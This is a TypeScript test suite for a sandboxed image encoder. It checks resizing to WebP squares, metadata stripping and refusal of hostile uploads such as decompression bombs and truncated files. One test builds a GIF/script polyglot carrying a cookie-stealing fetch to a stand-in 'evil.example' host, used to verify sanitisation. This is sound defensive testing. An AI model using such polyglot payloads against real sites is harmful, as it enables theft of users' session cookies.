// Pictures made ours: what people send becomes squares and nothing else; what means harm is refused, or comes out harmless, and the house goes on.
import { readFile } from 'node:fs/promises';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LIMITS, PICTURE_SIZES } from '../../protocol/constants.ts';
import { systemClock } from '../clock.ts';
import { silentLog } from '../log.ts';
import { refusalOf } from '../wings.testing.ts';
import { apng, gif, NO_PICTURES, png, profileBomb, textBomb } from './hostile-pictures.testing.ts';
import { createSharpEncoder } from './sharp-encoder.ts';

const encoder = createSharpEncoder({ clock: systemClock, log: silentLog });
beforeAll(() => encoder.encode(png(8, 8), [64])); // Started, and warm.
afterAll(() => encoder.close());

const MEGABYTE = 1024 * 1024;
/** The most that the process has held at once; where the system does not tell, nothing. */
const peak = async (): Promise<number> => {
  const status = await readFile(`/proc/${encoder.pid}/status`, 'utf8').catch(() => '');
  return Number(/VmHWM:\s+(\d+)/.exec(status)?.[1] ?? 0) * 1024;
};
const photo = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#3a7d44' } });
const colourAt = async (square: Buffer, x: number, y: number): Promise<number[]> => {
  const { data, info } = await sharp(square).raw().toBuffer({ resolveWithObject: true });
  const at = (y * info.width + x) * info.channels;
  return [...data.subarray(at, at + 3)];
};
/** WebP chunks, by name: a simple file has one. */
const chunksOf = (webp: Buffer): string[] => {
  const names: string[] = [];
  for (let at = 12; at < webp.length; at += 8 + webp.readUInt32LE(at + 4) + (webp.readUInt32LE(at + 4) % 2)) {
    names.push(webp.toString('latin1', at, at + 4));
  }
  return names;
};

describe('what people send', () => {
  it.each(['jpeg', 'png', 'webp', 'gif', 'avif', 'tiff'] as const)('%s becomes squares of every size, and small', async (format) => {
    const squares = await encoder.encode(await photo(900, 600).toFormat(format).toBuffer(), PICTURE_SIZES);
    expect([...squares.keys()]).toEqual([...PICTURE_SIZES]);
    for (const [edge, square] of squares) {
      expect(await sharp(square).metadata()).toMatchObject({ format: 'webp', width: edge, height: edge });
      expect(chunksOf(square)).toEqual(['VP8 ']);
      const [red, green, blue] = await colourAt(square, 5, 5);
      expect([Math.abs(red! - 0x3a), Math.abs(green! - 0x7d), Math.abs(blue! - 0x44)].every((off) => off < 12)).toBe(true);
    }
  });

  it('the middle is cut out, and what is small is made large', async () => {
    const left = await photo(100, 200).png().toBuffer();
    const wide = await sharp({ create: { width: 400, height: 200, channels: 3, background: '#ffffff' } })
      .composite([{ input: left, left: 0, top: 0 }])
      .png()
      .toBuffer();
    const square = (await encoder.encode(wide, [512])).get(512)!;
    expect((await colourAt(square, 4, 256)).every((value) => value > 200)).toBe(true);
    expect(await sharp((await encoder.encode(await photo(3, 2).png().toBuffer(), [128])).get(128)).metadata()).toMatchObject({
      width: 128,
    });
  });

  it('P23: stands upright, and where and with what it was taken is gone', async () => {
    const top = await photo(300, 100).jpeg().toBuffer();
    const taken = await sharp({ create: { width: 300, height: 300, channels: 3, background: '#ffffff' } })
      .composite([{ input: top, left: 0, top: 0 }])
      .withExif({
        IFD0: { Make: 'Camera of Alice', Copyright: 'Alice Secret' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 31/1 12/1', GPSLongitudeRef: 'E', GPSLongitude: '13/1 24/1 18/1' },
      })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret>xmp of Alice</secret></x:xmpmeta>')
      .withIccProfile('p3')
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const said = await sharp(taken).metadata();
    expect(said).toMatchObject({ orientation: 6 });
    expect([said.exif, said.xmp, said.icc].every((part) => part !== undefined)).toBe(true);
    expect(taken.includes('Camera of Alice')).toBe(true);

    for (const [edge, square] of await encoder.encode(taken, PICTURE_SIZES)) {
      const { exif, xmp, icc, iptc, orientation, comments } = await sharp(square).metadata();
      expect({ exif, xmp, icc, iptc, orientation, comments }).toEqual({});
      for (const word of ['Alice', 'GPS', 'Exif', 'xmp', 'adobe', 'ICC', 'Display P3']) expect(square.includes(word), word).toBe(false);
      // Its top is at the right now.
      const [right] = await colourAt(square, edge - 3, edge >> 1);
      const [left] = await colourAt(square, 3, edge >> 1);
      expect([right! < 120, left! > 200]).toEqual([true, true]);
    }
  });

  it('deep, printed, grey, interlaced and transparent ones', async () => {
    const kinds = [
      await photo(400, 300).toColourspace('rgb16').png().toBuffer(),
      await photo(400, 300).toColourspace('cmyk').jpeg().toBuffer(),
      await photo(400, 300).greyscale().png({ palette: true }).toBuffer(),
      await photo(400, 300).jpeg({ progressive: true }).toBuffer(),
      await photo(400, 300).png({ progressive: true }).toBuffer(),
    ];
    for (const bytes of kinds) expect((await encoder.encode(bytes, [64])).get(64)!.length).toBeGreaterThan(40);
    const glass = await sharp({ create: { width: 50, height: 50, channels: 4, background: { r: 255, g: 0, b: 0, alpha: 0 } } })
      .png()
      .toBuffer();
    expect((await colourAt((await encoder.encode(glass, [64])).get(64)!, 30, 30)).every((value) => value > 250)).toBe(true);
  });
});

describe('P23: what means harm', () => {
  it.each(Object.keys(NO_PICTURES))('%s is no picture', async (name) => {
    expect(await refusalOf(encoder.encode(NO_PICTURES[name]!, [64]))).toBe('not-a-picture');
  });

  it('a JPEG that ends in the middle is no picture', async () => {
    const noise = Buffer.from(Array.from({ length: 300 * 300 * 3 }, (_, index) => (index * 7919) % 251));
    const whole = await sharp(noise, { raw: { width: 300, height: 300, channels: 3 } })
      .jpeg()
      .toBuffer();
    expect(await refusalOf(encoder.encode(whole.subarray(0, whole.length >> 1), [64]))).toBe('not-a-picture');
  });

  it('a picture that is also a script comes out as a picture', async () => {
    const script = '*/=1;fetch("https://evil.example/"+document.cookie)//';
    const both = gif(1, script);
    expect(both.includes(script)).toBe(true);
    const square = (await encoder.encode(Buffer.concat([both, Buffer.from(script)]), [64])).get(64)!;
    expect(square.includes('fetch')).toBe(false);
    expect(chunksOf(square)).toEqual(['VP8 ']);
  });

  it('of ten thousand frames only the first is looked at', async () => {
    for (const many of [apng(10_000), gif(10_000)]) {
      expect((await encoder.encode(many, [64])).size).toBe(1);
    }
  });

  it('what unpacks to much takes no more than it may', async () => {
    const before = await peak();
    for (const bomb of [textBomb(300), profileBomb(300), png(6_300, 6_300)]) {
      expect(bomb.length).toBeLessThan(LIMITS.pictureBytes);
      // Refused, or read without what was packed: both are well.
      await encoder.encode(bomb, [64]).catch(() => {});
    }
    expect((await peak()) - before).toBeLessThan(400 * MEGABYTE);
    expect(encoder.pid).not.toBeNull();
  });

  it('a deep one of as many pixels is too much', async () => {
    const deep = await sharp({ create: { width: 6_000, height: 6_000, channels: 4, background: '#000000' } })
      .toColourspace('rgb16')
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(await refusalOf(encoder.encode(deep, [64]))).toBe('not-a-picture');
  });

  it('after all of that, pictures are read', async () => {
    expect((await encoder.encode(await photo(100, 100).jpeg().toBuffer(), [64])).size).toBe(1);
  });
});

describe('the process', () => {
  it('is ended when one takes too long, and the next is read by another', async () => {
    const hasty = createSharpEncoder({ clock: systemClock, log: silentLog, withinMs: 1 });
    const patient = createSharpEncoder({ clock: systemClock, log: silentLog });
    expect(await refusalOf(hasty.encode(png(100, 100), [64]))).toBe('not-a-picture');
    expect(hasty.pid).toBeNull();
    await patient.encode(png(8, 8), [64]);
    const first = patient.pid!;
    const lost = patient.encode(png(3_000, 3_000), [64]);
    process.kill(first, 'SIGKILL');
    expect(await refusalOf(lost)).toBe('not-a-picture');
    expect((await patient.encode(png(8, 8), [64])).size).toBe(1);
    expect(patient.pid).not.toBe(first);
    await Promise.all([hasty.close(), patient.close()]);
    expect(patient.pid).toBeNull();
  });

  it('knows nothing of the house, and is not root', async () => {
    const environment = (await readFile(`/proc/${encoder.pid}/environ`, 'utf8').catch(() => '')).split('\0').filter(Boolean);
    for (const line of environment) expect(line).toMatch(/^(MALLOC_ARENA_MAX|NODE_CHANNEL_)/);
    const status = await readFile(`/proc/${encoder.pid}/status`, 'utf8').catch(() => 'Uid:\t1\t1\t1\t1');
    expect(status).not.toMatch(/Uid:\s+0/);
  });

  it('is asked one after the other, and by no more than may wait', async () => {
    const asked = Array.from({ length: 20 }, () => encoder.encode(png(400, 400), [64]));
    const settled = await Promise.allSettled(asked);
    expect(settled.filter(({ status }) => status === 'fulfilled')).toHaveLength(16);
    expect(await refusalOf(asked.at(-1)!)).toBe('too-many');
    expect((await encoder.encode(png(8, 8), [64])).size).toBe(1);
  });
});
